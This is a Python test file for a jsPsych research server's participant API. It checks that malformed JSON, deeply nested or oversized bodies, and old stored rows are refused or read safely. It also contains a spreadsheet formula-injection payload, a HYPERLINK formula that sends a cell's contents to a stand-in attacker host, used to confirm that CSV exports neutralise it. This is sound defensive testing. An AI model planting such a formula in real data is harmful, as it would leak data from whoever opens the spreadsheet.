"""Issue #36 rows 9 and 10: what a participant sends is held to one set of rules, whichever endpoint takes it.

A plan-less row (POST …/rows, a researcher's jsPsych experiment) and a trial's response go through one check of a
JSON value (server/tasktype/jsonvalue.py): no lone surrogates (in values or keys), no NUL, no integer a browser's
JSON cannot hold exactly, no non-finite number, no nesting past its limit; a refusal names the bad value's path and
stores nothing. Every body the participant API reads is refused (400 too_deep) when nested past its limit, however
deep (a 500 from the parser before), and a chunked body over the size limit is a 413 like one with a Content-Length.
The writers: trials.csv's header cells are formula-safe like its other cells, a row's booleans are written as JSON
writes them, and a row stored before these checks is read by every reader (export, dashboard, `flask analyze`)."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, datetime

import pandas as pd
import pytest

from analysis.safe_csv import frame_csv, rows_csv
from server.db import db
from server.exceptions import ResponseError
from server.models import ParticipantSession, Trial
from server.tasktype.jsonvalue import MAX_DEPTH, check
from tests.helpers import enter
from tests.jspsych_study import EXPERIMENT, jspsych_app
from tests.test_export import formulas

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"details")'


@pytest.fixture
def app(tmp_path):
    with jspsych_app(tmp_path, own=EXPERIMENT) as app:
        yield app


def post_row(client, token, row, trial_id=None):
    body = {"trial_id": trial_id or str(uuid.uuid4()), "row": row, "client_time": "2026-11-25T12:00:00+00:00"}
    return client.post(f"/api/sessions/{token}/rows", json=body)


def stored(token):
    db.session.rollback()
    return db.session.scalars(
        db.select(Trial.response)
        .join(ParticipantSession)
        .where(ParticipantSession.token == token)
        .order_by(Trial.trial_index)
    ).all()


def nested(depth, leaf=1):
    value = leaf
    for _ in range(depth):
        value = {"deep": value}
    return value


REFUSED = (  # (row, field, words of the message)
    ({"response": {"Q0": "smile \ud83d"}}, "row.response.Q0", "lone surrogate"),  # half an emoji (.slice())
    ({"response": {"\udfff": "yes"}}, "row.response", "lone surrogate"),  # in a key
    ({"stimulus": "a\x00b"}, "row.stimulus", "NUL"),
    ({"n\x00": 1}, "row", "NUL"),
    ({"n": 2**53}, "row.n", "2^53"),
    ({"n": -(2**53)}, "row.n", "2^53"),
    ({"view_history": [{"t": 0}, {"t": 10**400}]}, "row.view_history[1].t", "2^53"),  # crashed flask analyze
    ({"a": nested(MAX_DEPTH)}, "row.a" + ".deep" * (MAX_DEPTH - 1), f"{MAX_DEPTH} levels"),
)


def test_a_row_no_reader_can_handle_is_refused_naming_the_value(client):
    token = enter(client, slug="own")
    for row, field, words in REFUSED:
        refused = post_row(client, token, {"trial_type": "survey-text", "rt": 900, **row})
        answer = refused.get_json()
        assert (refused.status_code, answer["error"], answer["field"]) == (422, "invalid_response", field), answer
        assert words in answer["message"], answer
    assert stored(token) == []


def test_values_within_the_rules_are_stored_as_sent(client):
    token = enter(client, slug="own")
    row = {
        "big": 2**53 - 1,
        "small": -(2**53 - 1),
        "x": 1e300,
        "emoji": "smile \U0001f600",
        "text": "tab\tand\nline",
        "a": nested(MAX_DEPTH - 1),
        "ok": True,
    }
    assert post_row(client, token, row).status_code == 201
    assert stored(token) == [row]


def test_one_check_for_rows_and_trial_responses():
    """The check names the path below where the caller says the value is (`response` for a trial's)."""
    check({"guesses": [{"label_id": "bat1", "rt_ms": 2300}]}, "response")
    for value, field in (
        ({"guesses": [{"label_id": "bat\ud800"}]}, "response.guesses[0].label_id"),
        ({"percent": float("nan")}, "response.percent"),
        ({"percent": float("-inf")}, "response.percent"),
        ([1, [2, 2**60]], "response[1][1]"),
    ):
        with pytest.raises(ResponseError) as refused:
            check(value, "response")
        assert refused.value.field == field


ENDPOINTS = (
    ("put", "environment", "screen_width"),
    ("put", "surveys/consent", "answers"),
    ("post", "trials", "response"),
    ("post", "rows", "row"),
    ("post", "end", "outcome"),
)


@pytest.mark.parametrize("depth", [100, 2000])  # 2000: deeper than Python's parser recurses (a 500 before)
def test_a_body_nested_too_deep_is_a_400_on_every_endpoint(client, depth):
    token = enter(client, slug="own")
    for method, path, field in ENDPOINTS:
        body = f'{{"trial_id": "deep-one-1", "{field}": {"[" * depth + "]" * depth}}}'
        answer = getattr(client, method)(f"/api/sessions/{token}/{path}", data=body, content_type="application/json")
        assert (answer.status_code, answer.get_json()["error"]) == (400, "too_deep"), (path, answer.data[:200])
    assert stored(token) == []


def chunked(client, method, url, body):
    """A request with Transfer-Encoding: chunked and no Content-Length, as werkzeug's and granian's servers hand it
    on (wsgi.input_terminated: the server ends the stream)."""
    return getattr(client, method)(
        url,
        input_stream=io.BytesIO(body),
        headers={"Transfer-Encoding": "chunked", "Content-Type": "application/json"},
        environ_overrides={"wsgi.input_terminated": True},
    )


def test_a_chunked_body_over_the_limit_is_a_413(app, client):
    token = enter(client, slug="own")
    limit = app.config["PARTICIPANT_MAX_BODY"]
    sizes = {"screen_width": 800, "screen_height": 600, "window_width": 800, "window_height": 600}
    fits = json.dumps(sizes).encode()
    over = json.dumps({**sizes, "pad": "x" * limit}).encode()
    assert chunked(client, "put", f"/api/sessions/{token}/environment", fits).status_code == 200
    too_big = chunked(client, "put", f"/api/sessions/{token}/environment", over)
    assert too_big.status_code == 413, too_big.data[:200]
    exactly = fits[:-1] + b" " * (limit - len(fits)) + b"}"  # a body that fills the limit exactly is taken
    assert len(exactly) == limit
    assert chunked(client, "put", f"/api/sessions/{token}/environment", exactly).status_code == 200
    row = json.dumps({"trial_id": "chunked-row", "row": {"text": "x" * 2_000_000}}).encode()
    big_row = chunked(client, "post", f"/api/sessions/{token}/rows", row)
    assert (big_row.status_code, big_row.get_json()["error"]) == (413, "row_too_large")
    assert stored(token) == []


def export(runner, tmp_path):
    result = runner.invoke(args=["export", "own", "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    return {name: (tmp_path / "out" / name).read_text(encoding="utf-8") for name in ("trials.csv", "codebook.csv")}


def test_trials_csv_header_cells_are_formula_safe_and_booleans_written_as_json(client, runner, auth, tmp_path):
    token = enter(client, slug="own")
    for n, correct in enumerate((True, False, True)):
        assert post_row(client, token, {"trial_index": n, "correct": correct, HYPERLINK: "=1+1"}).status_code == 201
    files = export(runner, tmp_path)
    assert formulas(files["trials.csv"]) == [] and formulas(files["codebook.csv"]) == []
    header, *rows = list(csv.reader(io.StringIO(files["trials.csv"])))
    assert "'" + HYPERLINK in header
    cells = [dict(zip(header, r)) for r in rows]
    assert [c["correct"] for c in cells] == ["true", "false", "true"]  # as JSON (and jsPsych's .csv()) writes them
    assert [c["'" + HYPERLINK] for c in cells] == ["'=1+1"] * 3
    book = {r["column"]: r for r in csv.DictReader(io.StringIO(files["codebook.csv"])) if r["file"] == "trials.csv"}
    assert list(book) == header  # the codebook names each column as the file does
    assert (book["correct"]["type"], book["correct"]["levels"]) == ("boolean", "[false,true]")
    auth.login()
    download = client.get("/researcher/studies/own/trials.csv")
    assert download.status_code == 200 and download.get_data(as_text=True) == files["trials.csv"]


def test_rows_stored_before_the_check_are_read_by_every_reader(client, runner, auth, tmp_path):
    """A lone surrogate emptied trials.csv (UnicodeEncodeError part-way; the download a 200 of 0 bytes) and failed
    the participant page; a 400-digit integer crashed `flask analyze` (OverflowError). Such a row is inserted as
    the API stored it before the check (SQLite and PostgreSQL's json both take it)."""
    token = enter(client, slug="own")
    for n in range(8):  # the study's min_rows: a completed session, which the analysis reads
        assert post_row(client, token, {"trial_index": n, "trial_type": "word", "rt": 500 + n}).status_code == 201
    session_id = db.session.scalar(db.select(ParticipantSession.id).filter_by(token=token))
    db.session.add(
        Trial(
            session_id=session_id,
            trial_index=10**6,
            client_trial_id="stored-before-the-check",
            practice=False,
            response={"trial_index": 8, "trial_type": "smile \ud83d", "\udfff": "key", "rt": 10**400},
            score={},
            created_at=datetime(2026, 11, 1, tzinfo=UTC),
        )
    )
    db.session.commit()
    assert client.post(f"/api/sessions/{token}/timeline-finished", json={}).status_code == 200
    assert client.post(f"/api/sessions/{token}/complete", json={}).status_code == 200
    files = export(runner, tmp_path)
    header, *rows = list(csv.reader(io.StringIO(files["trials.csv"])))
    assert len(rows) == 9  # every row, the last with its surrogates as JSON escapes them and its integer as digits
    last = dict(zip(header, rows[-1]))
    assert (last["trial_type"], last["\\udfff"], last["rt"]) == ("smile \\ud83d", "key", str(10**400))
    auth.login()
    for name in ("trials.csv", "codebook.csv"):
        download = client.get(f"/researcher/studies/own/{name}")
        assert download.status_code == 200 and download.get_data(as_text=True) == files[name], name
    page = client.get(f"/researcher/studies/own/participants/{session_id}")
    assert page.status_code == 200 and "smile \\ud83d" in page.get_data(as_text=True)
    replayed = client.get(f"/researcher/studies/own/participants/{session_id}/replay")
    assert replayed.status_code == 200 and "smile \\ud83d" in replayed.get_data(as_text=True)
    analysed = runner.invoke(args=["analyze", "own", "--stage", "all", "--out", str(tmp_path / "analysis")])
    assert analysed.exit_code == 0, analysed.output
    assert "1 rt value(s) are not numbers" in (tmp_path / "analysis" / "report.md").read_text(encoding="utf-8")


def test_the_csv_writers_neutralise_header_cells_and_write_lone_surrogates_as_escapes():
    """analysis.safe_csv's two writers: rows_csv (every export file) and frame_csv (the results tables)."""
    rows = [{"=1+1": "x\udfff", "a\ud800": "-2"}]
    assert "".join(rows_csv(["=1+1", "a\ud800"], rows)) == "'=1+1,a\\ud800\nx\\udfff,-2\n"
    assert "".join(frame_csv(pd.DataFrame({"@x": ["-"], "n": [1]}))) == "'@x,n\n'-,1\n"
